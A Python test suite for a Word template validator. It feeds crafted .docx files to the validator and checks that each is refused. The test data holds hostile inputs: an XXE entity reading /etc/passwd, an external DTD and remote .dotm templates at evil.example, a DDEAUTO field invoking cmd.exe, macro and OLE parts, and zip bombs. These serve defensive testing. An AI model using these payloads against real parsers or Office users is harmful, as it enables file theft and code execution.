"""What a template from outside may not hold: bombs, macros, objects, links and fields that reach out."""

from __future__ import annotations

import time
import zipfile
from io import BytesIO
from typing import Any

import pytest

from assessment.domain.report_errors import TemplateBroken
from assessment.reports.word import TEMPLATE
from assessment.reports.word_safety import MOST_ENTRIES, MOST_UNPACKED, MOST_XML
from assessment.reports.word_template import opened
from tests.word_files import (
    changed,
    related,
    repacked,
    with_field,
    with_line,
    with_part,
    with_xml,
)

OFFICE = "application/vnd.openxmlformats-officedocument"


def refused(data: bytes) -> TemplateBroken:
    with pytest.raises(TemplateBroken) as broken:
        opened(data)
    return broken.value


def test_our_own_template_passes() -> None:
    opened(TEMPLATE.read_bytes())


@pytest.mark.parametrize(
    "data",
    [
        with_line("诚信咨询 {{ 企业名称 }}"),
        related("hyperlink", "https://consultancy.example/"),
        related("hyperlink", "mailto:office@consultancy.example"),
        with_field(" TOC \\o &quot;1-3&quot; \\h "),
        with_field(" PA", "GE \\* MERGEFORMAT "),
        with_field(' HYPERLINK "https://consultancy.example/a?b=c" \\o "我们" '),
        with_field(' HYPERLINK \\l "_Toc1" \\h '),
        with_part("word/media/logo.svg", "image/svg+xml", b'<svg><a href="#b"/></svg>', "image"),
    ],
)
def test_what_people_put_into_a_template_passes(data: bytes) -> None:
    opened(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"no zip",
        b"PK\x05\x06" + bytes(18),
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048),
        TEMPLATE.read_bytes()[:-200],
        repacked(lambda parts: parts.pop("word/document.xml")),
        repacked(lambda parts: parts.pop("[Content_Types].xml")),
        repacked(lambda parts: parts.update({"[Content_Types].xml": b"<Types"})),
        repacked(lambda parts: parts.update({"word/document.xml": b"<w:document"})),
        repacked(lambda parts: parts.update({"word/theme/theme1.xml": b"\x00\x01"})),
        repacked(lambda parts: parts.update({"WORD/document.xml": b"<a/>"})),
    ],
)
def test_what_is_no_word_file_is_told(data: bytes) -> None:
    assert "打不开，要用 Word 另存为“.docx”" in refused(data).sentence


@pytest.mark.parametrize(
    "data",
    [
        repacked(lambda parts: parts.update({"word/media/a.png": bytes(MOST_UNPACKED)})),
        repacked(lambda parts: parts.update({"word/zeros.xml": b" " * (MOST_XML + 1)})),
        repacked(lambda parts: parts.update({f"word/{n}.xml": b" " * MOST_XML for n in range(4)})),
        repacked(lambda parts: parts.update({f"a{n}.xml": b"" for n in range(MOST_ENTRIES)})),
        with_xml("<w:p/>" * 250_000),
    ],
    ids=["unpacked", "one", "sum", "entries", "elements"],
)
def test_a_bomb_is_refused_unopened(data: bytes) -> None:
    begun = time.monotonic()
    assert "内容太多" in refused(data).sentence
    assert len(data) < 5 * 1024 * 1024
    assert time.monotonic() - begun < 10


def test_a_part_that_lies_about_its_size_is_refused() -> None:
    data = bytearray(repacked(lambda parts: None, method=zipfile.ZIP_STORED))
    with zipfile.ZipFile(BytesIO(bytes(data))) as archive:
        entry = archive.getinfo("word/document.xml")
    place = data.rindex(b"word/document.xml", 0, data.rindex(b"PK\x05\x06")) - 46
    assert data[place : place + 4] == b"PK\x01\x02"
    data[place + 24 : place + 28] = (entry.file_size - 9).to_bytes(4, "little")
    refused(bytes(data))


@pytest.mark.parametrize(
    "document",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w SYSTEM "http://evil.example/a.dtd">',
    ],
)
@pytest.mark.parametrize("name", ["word/document.xml", "word/theme/theme1.xml"])
def test_entities_are_refused(document: str, name: str) -> None:
    def declare(parts: dict[str, bytes]) -> None:
        head, mark, rest = parts[name].partition(b"?>")
        parts[name] = head + mark + document.encode() + rest

    assert "打不开" in refused(repacked(declare)).sentence


@pytest.mark.parametrize(
    "data",
    [
        repacked(
            lambda parts: parts.update(
                {
                    "[Content_Types].xml": parts["[Content_Types].xml"].replace(
                        f"{OFFICE}.wordprocessingml.document.main+xml".encode(),
                        b"application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                }
            )
        ),
        with_part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"x", "vba"),
        with_part("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", b"<a/>", "x"),
        with_part("word/a.xml", "application/xml", b"<a/>", "vbaProject"),
    ],
)
def test_macros_are_refused(data: bytes) -> None:
    assert "带有宏" in refused(data).sentence


@pytest.mark.parametrize(
    "data",
    [
        with_part("word/embeddings/o.bin", f"{OFFICE}.oleObject", b"x", "oleObject"),
        with_part("word/x.xlsx", f"{OFFICE}.spreadsheetml.sheet", b"PK", "package"),
        with_part("word/a.html", "text/html", b"<p>", "aFChunk"),
        with_part("word/a.xhtml", "application/xhtml+xml", b"<p/>", "aFChunk"),
        with_part("word/a.xml", "application/xml", b"<p/>", "aFChunk"),
        with_part("word/a.xml", "application/vnd.ms-office.activeX+xml", b"<a/>", "control"),
        with_xml("<w:p><w:r><w:object/></w:r></w:p>"),
        with_xml('<w:altChunk r:id="rId3"/>'),
    ],
)
def test_embedded_files_and_controls_are_refused(data: bytes) -> None:
    assert "嵌有别的文件或控件" in refused(data).sentence


@pytest.mark.parametrize(
    "data",
    [
        related("image", "https://evil.example/pixel.png"),
        related("attachedTemplate", "file:///server/share/evil.dotm"),
        related("attachedTemplate", "https://evil.example/a.dotm"),
        related("hyperlink", "file:///etc/passwd"),
        related("hyperlink", "javascript:alert(1)"),
        related("oleObject", "https://evil.example/a"),
        related("frame", "https://evil.example/a.htm"),
        with_field(' HYPERLINK "file:///etc/passwd" '),
        with_field(' HYPERLINK \\l "a" "file:///etc/passwd" '),
        with_part("word/media/a.svg", "image/svg+xml", b'<svg href="//evil.example"/>', "image"),
        with_xml('<w:p><w:r><w:pict src="https://evil.example/a.png"/></w:r></w:p>'),
    ],
)
def test_what_reaches_outside_is_refused_and_named(data: bytes) -> None:
    broken = refused(data)
    assert "引用了文件外面的内容" in broken.sentence
    assert broken.placeholder in broken.sentence
    assert broken.placeholder


def test_a_relationship_of_a_footer_is_looked_at_too() -> None:
    def reach_out(file: Any) -> None:
        file.sections[0].footer.part.relate_to(
            "https://evil.example/a.png", "http://x/image", is_external=True
        )

    assert "evil.example" in refused(changed(reach_out)).sentence


@pytest.mark.parametrize(
    "pieces",
    [
        ('INCLUDEPICTURE "https://evil.example/a.png" \\d',),
        ("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",),
        ("DD", "EAUTO ", "excel"),
        ("  includetext  x",),
        ('INCLUDEPICTURE"x"',),
        ("",),
        ("= 1 + 1",),
        ("MACROBUTTON x",),
    ],
)
def test_fields_that_do_something_are_refused(pieces: tuple[str, ...]) -> None:
    assert "有模板里不能用的域" in refused(with_field(*pieces)).sentence


@pytest.mark.parametrize(
    "xml",
    [
        '<w:p><w:fldSimple w:instr="DDE a b"/></w:p>',
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        "</w:p>",
        "<w:p><w:r><w:instrText>DDE a</w:instrText></w:r></w:p>",
    ],
)
def test_fields_in_other_forms_are_found(xml: str) -> None:
    assert "DDE" in refused(with_xml(xml)).sentence


def test_a_field_inside_a_field_is_found() -> None:
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    inner = f"{begin}<w:r><w:instrText>LINK a</w:instrText></w:r>{end}"
    outer = f"<w:p>{begin}<w:r><w:instrText>REF a </w:instrText></w:r>{inner}{end}</w:p>"
    assert refused(with_xml(outer)).placeholder == "LINK a"


def test_a_mail_merge_is_refused() -> None:
    def merge(parts: dict[str, bytes]) -> None:
        zoom = b"<w:zoom "
        settings = parts["word/settings.xml"]
        parts["word/settings.xml"] = settings.replace(zoom, b"<w:mailMerge/>" + zoom)

    assert "mailMerge" in refused(repacked(merge)).sentence


@pytest.mark.parametrize("text", ["{{" * 40_000, "{{ " + " " * 80_000, "{{a" * 30_000])
def test_braces_without_end_cost_no_time(text: str) -> None:
    begun = time.monotonic()
    assert "没写完整" in refused(with_line(text)).sentence
    assert time.monotonic() - begun < 5


def test_too_many_placeholders_are_refused() -> None:
    assert "占位符太多" in refused(with_line("{{日期}}" * 101)).sentence
